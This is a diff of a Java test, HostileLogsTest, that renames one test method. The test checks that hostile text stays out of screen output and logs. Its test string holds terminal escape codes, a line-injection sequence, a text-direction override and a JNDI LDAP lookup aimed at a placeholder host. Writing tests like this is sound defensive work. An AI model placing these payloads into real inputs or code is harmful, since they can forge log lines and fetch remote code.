@@ -24,7 +24,7 @@ class HostileLogsTest {
   @TempDir private Path folder;
 
   @Test
-  void hostileTextReachesNeitherTheScreenNorALogLine() throws IOException {
+  void hostileTextStaysOffScreenAndLog() throws IOException {
     SharedSpark.session();
     String hostile = "\\u001b[2J\\r\\nAlerts 0\\u202e" + "x".repeat(3_000) + "${jndi:ldap://h/a}";
     String members = ",\"eventName\":\"Get" + hostile + "\",\"userAgent\":\"" + hostile + "\"}";
